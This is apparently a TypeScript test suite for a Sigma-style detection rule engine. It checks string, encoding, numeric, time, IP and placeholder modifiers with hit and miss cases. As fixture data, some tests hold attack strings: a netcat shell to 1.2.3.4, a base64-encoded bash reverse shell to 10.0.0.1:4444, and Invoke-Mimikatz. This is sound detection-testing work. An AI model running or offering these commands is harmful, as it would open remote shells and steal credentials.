/** Every modifier of the modifiers appendix v2.1.0 (but the time modifiers), each with a hit and a miss. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { event, matches } from './helpers.js';

const item = (key: string, value: string) => `sel:\n  ${key}: ${value}\ncondition: sel`;
const check = (key: string, value: string, hit: unknown, miss: unknown) => {
  assert.equal(matches(item(key, value), event(hit as Record<string, unknown>)), true, `${key} should match`);
  assert.equal(matches(item(key, value), event(miss as Record<string, unknown>)), false, `${key} should not match`);
};

describe('generic modifiers', () => {
  it('contains', () => check('f|contains', 'whoami', { f: 'run WHOAMI /all' }, { f: 'who am i' }));
  it('startswith', () => check('f|startswith', 'kube-', { f: 'Kube-proxy' }, { f: 'my-kube-proxy' }));
  it('endswith', () => check('f|endswith', '/sh', { f: '/bin/SH' }, { f: '/bin/bash' }));
  it('contains keeps inner wildcards', () => check('f|contains', "'a?c'", { f: 'xxabcxx' }, { f: 'xxacxx' }));

  it('all ANDs a list', () => {
    check('f|contains|all', '[-e, /bin/sh]', { f: 'nc -e /bin/sh 1.2.3.4' }, { f: 'nc -e /bin/bash' });
  });

  it('exists true and false, whatever the value', () => {
    check('f|exists', 'true', { f: null }, { g: 'x' });
    check('f|exists', 'false', { g: 'x' }, { f: '' });
  });

  it('cased compares case-sensitively', () => {
    check('f|cased', 'Secret', { f: 'Secret' }, { f: 'secret' });
    check('f|contains|cased', 'Token', { f: 'myToken1' }, { f: 'mytoken1' });
  });

  it('neq on strings and numbers, and on a list means none of them', () => {
    check('f|neq', 'system', { f: 'alice' }, { f: 'SYSTEM' });
    check('f|neq', '200', { f: 403 }, { f: 200 });
    check('f|neq', '[a, b]', { f: 'c' }, { f: 'b' });
    assert.equal(matches(item('f|neq', 'x'), event({})), true, 'a missing field is different');
    check('f|neq', 'null', { f: 'x' }, { g: 'x' });
  });
});

describe('string modifiers', () => {
  it('windash swaps -, /, en dash, em dash and horizontal bar', () => {
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      assert.equal(matches(item('f|windash|contains', "' -exec '"), event({ f: `find . ${dash}exec rm` })), true, dash);
    }
    assert.equal(matches(item('f|windash|contains', "' -exec '"), event({ f: 'find . exec rm' })), false);
  });

  it('re searches with re2, case-sensitive by default', () => {
    check('f|re', "'^/bin/(ba)?sh$'", { f: '/bin/bash' }, { f: '/bin/zsh' });
    check('f|re', "'Secret'", { f: 'a Secret b' }, { f: 'a secret b' });
  });

  it('re|i is case-insensitive', () => check('f|re|i', "'secret'", { f: 'SECRET' }, { f: 'scrt' }));

  it('re|m lets ^ and $ match at line ends', () => {
    check('f|re|m', "'^root$'", { f: 'user\nroot\nx' }, { f: 'user root x' });
    assert.equal(matches(item('f|re', "'^root$'"), event({ f: 'user\nroot\nx' })), false);
  });

  it('re|s lets . match a newline', () => {
    check('f|re|s', "'begin.end'", { f: 'begin\nend' }, { f: 'beginend' });
    assert.equal(matches(item('f|re', "'begin.end'"), event({ f: 'begin\nend' })), false);
  });

  it('re on a catastrophic pattern finishes quickly (linear-time engine)', () => {
    const started = Date.now();
    const hostile = 'a'.repeat(100_000) + '!';
    assert.equal(matches(item('f|re', "'^(a+)+$'"), event({ f: hostile })), false);
    assert.equal(matches(item('f|re', "'(a|aa)+b'"), event({ f: hostile })), false);
    assert.equal(matches(item('f|re', "'^(a+)+$'"), event({ f: 'a'.repeat(100_000) })), true);
    assert.ok(Date.now() - started < 1000, `took ${Date.now() - started} ms`);
  });
});

describe('encoding modifiers', () => {
  const b64 = (bytes: Buffer) => bytes.toString('base64');

  it('base64 matches the encoded value', () => {
    const encoded = b64(Buffer.from('/bin/sh -i'));
    check('f|base64', "'/bin/sh -i'", { f: encoded }, { f: b64(Buffer.from('/bin/sh -x')) });
    check('f|base64|contains', "'/bin/sh -i'", { f: `echo ${encoded} | base64 -d` }, { f: 'echo L2Jpbg== | base64 -d' });
  });

  it('base64offset|contains finds the value at every byte offset of a longer encoding', () => {
    const value = 'bash -i >& /dev/tcp/';
    for (let prefix = 0; prefix < 6; prefix++) {
      for (const suffix of ['', 'x', 'xy', '10.0.0.1/4444 0>&1']) {
        const whole = b64(Buffer.from('P'.repeat(prefix) + value + suffix));
        assert.equal(matches(item('f|base64offset|contains', `'${value}'`), event({ f: whole })), true, `${prefix}/${suffix}`);
      }
    }
    const other = b64(Buffer.from('zsh -i >& /dev/udp/'));
    assert.equal(matches(item('f|base64offset|contains', `'${value}'`), event({ f: other })), false);
  });

  it('utf16le, wide, utf16be and utf16 encode before base64', () => {
    const value = 'Invoke-Mimikatz';
    const le = Buffer.from(value, 'utf16le');
    const be = Buffer.from(le).swap16();
    const bom = Buffer.concat([Buffer.from([0xff, 0xfe]), le]);
    check('f|utf16le|base64', `'${value}'`, { f: b64(le) }, { f: b64(be) });
    check('f|wide|base64', `'${value}'`, { f: b64(le) }, { f: b64(Buffer.from(value)) });
    check('f|utf16be|base64', `'${value}'`, { f: b64(be) }, { f: b64(le) });
    check('f|utf16|base64', `'${value}'`, { f: b64(bom) }, { f: b64(le) });
  });

  it('utf16le|base64offset|contains finds a UTF-16 value inside a longer encoded command', () => {
    const value = 'Invoke-Mimikatz';
    for (let prefix = 0; prefix < 4; prefix++) {
      const whole = b64(Buffer.from('I'.repeat(prefix) + value + ' -Dump', 'utf16le'));
      assert.equal(matches(item('f|utf16le|base64offset|contains', `'${value}'`), event({ f: whole })), true, `${prefix}`);
    }
    const ascii = b64(Buffer.from(`xx${value}xx`));
    assert.equal(matches(item('f|utf16le|base64offset|contains', `'${value}'`), event({ f: ascii })), false);
  });
});

describe('numeric modifiers', () => {
  it('lt, lte, gt, gte compare numbers (also numeric text)', () => {
    check('f|lt', '10', { f: 9 }, { f: 10 });
    check('f|lte', '10', { f: '10' }, { f: 11 });
    check('f|gt', '10', { f: 10.5 }, { f: 10 });
    check('f|gte', '10', { f: 10 }, { f: 'ten' });
  });
});

describe('time modifiers', () => {
  it('minute, hour, day, month, year take that part of the date in UTC', () => {
    const at = '2026-11-29T23:45:10+02:00'; // 21:45 UTC
    check('t|minute', '45', { t: at }, { t: '2026-11-29T23:46:10+02:00' });
    check('t|hour', '21', { t: at }, { t: '2026-11-29T23:45:10Z' });
    check('t|day', '29', { t: at }, { t: '2026-11-30T01:00:00Z' });
    check('t|month', '11', { t: at }, { t: '2026-12-01T00:00:00Z' });
    check('t|year', '2026', { t: Date.parse(at) }, { t: 'not a date' });
  });

  it('week is the ISO week, and time parts chain into numeric comparisons', () => {
    check('t|week', '1', { t: '2026-01-01T12:00:00Z' }, { t: '2025-12-28T12:00:00Z' }); // 2026-01-01 is a Thursday
    check('t|week', '53', { t: '2026-12-31T12:00:00Z' }, { t: '2026-12-27T12:00:00Z' });
    check('t|hour|gte', '22', { t: '2026-11-29T22:00:00Z' }, { t: '2026-11-29T21:59:59Z' });
    check('t|hour|neq', '3', { t: '2026-11-29T04:00:00Z' }, { t: '2026-11-29T03:10:00Z' });
  });
});

describe('ip modifiers', () => {
  it('cidr matches IPv4 subnets', () => {
    check('f|cidr', "'10.0.0.0/8'", { f: '10.20.30.40' }, { f: '11.0.0.1' });
    check('f|cidr', "'192.168.1.7'", { f: '192.168.1.7' }, { f: '192.168.1.8' });
  });

  it('cidr matches IPv6 subnets, and an array of addresses if any is in it', () => {
    check('f|cidr', "'fd00::/8'", { f: 'fd12:3456::1' }, { f: 'fe80::1' });
    check('f|cidr', "'10.0.0.0/8'", { f: ['1.1.1.1', '10.0.0.9'] }, { f: ['1.1.1.1', 'not-an-ip'] });
    check('f|cidr', "'10.0.0.0/8'", { f: '::ffff:10.1.2.3' }, { f: '::ffff:11.1.2.3' }); // IPv4-mapped IPv6
  });
});

describe('specific modifiers', () => {
  it('fieldref compares with another field of the event', () => {
    check('f|fieldref', 'g', { f: 'Alice', g: 'alice' }, { f: 'alice', g: 'bob' });
    check('f|fieldref|neq', 'g', { f: 'alice', g: 'bob' }, { f: 'alice', g: 'alice' });
  });

  it('expand takes placeholder values from config; several values are ORed; \\% is a plain percent', () => {
    const rule = item('f|expand', "'%Administrators%'");
    const config = { placeholders: { Administrators: ['admin', 'root*'] } };
    assert.equal(matches(rule, event({ f: 'rootkit' }), config), true);
    assert.equal(matches(rule, event({ f: 'ADMIN' }), config), true);
    assert.equal(matches(rule, event({ f: 'alice' }), config), false);
    const plain = item('f|expand', "'\\%plain%name%'");
    assert.equal(matches(plain, event({ f: '%plainX' }), { placeholders: { name: 'X' } }), true);
  });

  it('a placeholder without the expand modifier is a literal value', () => {
    assert.equal(matches(item('f', "'%name%'"), event({ f: '%name%' })), true);
  });
});
